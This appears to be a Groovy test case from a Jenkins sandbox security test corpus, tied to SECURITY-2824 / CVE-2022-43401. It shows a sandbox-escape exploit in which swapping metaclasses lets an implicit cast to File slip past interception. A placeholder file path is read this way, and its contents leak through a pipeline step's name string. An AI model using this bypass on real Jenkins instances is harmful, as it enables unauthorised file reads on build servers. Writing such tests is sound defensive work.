// class: metaclass
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (metaclass modification)
// expect: read
class Parent { public File prop }
class Child extends Parent { Object prop }
def p = new Parent()
def c = new Child()
c.metaClass = p.metaClass
c.prop = ['@CANARY_READ@']
vmwareSite("leak-${c.prop.text}") { network 'VM Network' }
